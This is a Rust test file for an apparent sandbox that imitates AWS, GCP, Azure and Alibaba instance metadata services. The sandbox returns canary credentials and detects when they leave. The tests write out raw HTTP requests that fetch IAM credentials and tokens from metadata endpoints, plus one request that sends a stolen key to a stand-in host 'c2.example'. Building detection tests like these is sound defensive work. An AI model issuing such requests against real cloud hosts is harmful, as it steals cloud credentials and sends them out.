use crate::testing::Bed;

fn check(to: &str, request: &str, expect: &str) -> Bed {
    let bed = Bed::new();
    let expect = expect
        .strip_prefix('$')
        .map_or(expect.to_owned(), |name| bed.shared.world.canaries.get(name).to_owned());
    bed.says(to, &[(format!("{request}\r\n").as_bytes(), &expect)]);
    bed.check("imds: ");
    bed
}

#[test]
fn every_cloud_gives_what_nobody_has() {
    let aws = "169.254.169.254:80";
    check(
        aws,
        "PUT /latest/api/token HTTP/1.1\r\nHost: 169.254.169.254\r\nX-aws-ec2-metadata-token-ttl-seconds: 60\r\nContent-Length: 0\r\n",
        "AQAEA",
    );
    check(
        aws,
        "GET /latest/meta-data/iam/security-credentials/ HTTP/1.1\r\nHost: 169.254.169.254\r\n",
        "eks-nodegroup-prod",
    );
    let bed = check(
        aws,
        "GET /latest/meta-data/iam/security-credentials/eks-nodegroup-prod HTTP/1.1\r\nHost: a\r\n",
        "$imds-aws-secret",
    );
    bed.check("aws GET /latest/meta-data/iam/security-credentials/eks-nodegroup-prod (credentials given)");
    check("169.254.170.2:80", "GET /v2/credentials/0b1c HTTP/1.1\r\nHost: a\r\n", "$ecs-aws-token");
    check(
        aws,
        "GET /computeMetadata/v1/instance/service-accounts/default/token HTTP/1.1\r\nHost: metadata.google.internal\r\nMetadata-Flavor: Google\r\n",
        "$imds-gcp-token",
    );
    check(
        aws,
        "GET /computeMetadata/v1/project/project-id HTTP/1.1\r\nHost: metadata.google.internal\r\n",
        "403",
    );
    check(
        aws,
        "GET /metadata/identity/oauth2/token?resource=https://management.azure.com/ HTTP/1.1\r\nHost: a\r\nMetadata: true\r\n",
        "$imds-azure-token",
    );
    check(aws, "GET /metadata/instance?api-version=2021-02-01 HTTP/1.1\r\nHost: a\r\n", "400");
    check(
        "100.100.100.200:80",
        "GET /latest/meta-data/ram/security-credentials/x HTTP/1.1\r\nHost: a\r\n",
        "$imds-aws-key-id",
    );
    check(aws, "GET /latest/meta-data/nothing HTTP/1.1\r\nHost: a\r\n", "404");
}

#[test]
fn giving_a_canary_is_not_its_leaving() {
    let bed = check(
        "169.254.169.254:80",
        "GET /latest/meta-data/iam/security-credentials/eks-nodegroup-prod HTTP/1.1\r\nHost: a\r\n",
        "$imds-aws-secret",
    );
    assert!(!bed.told().iter().any(|line| line.starts_with("canary")));
    let secret = bed.shared.world.canaries.get("imds-aws-key-id").to_owned();
    bed.says(
        "203.0.113.9:80",
        &[(format!("GET /?k={secret} HTTP/1.1\r\nHost: c2.example\r\n\r\n").as_bytes(), "200")],
    );
    bed.check("canary imds-aws-key-id Plain");
}
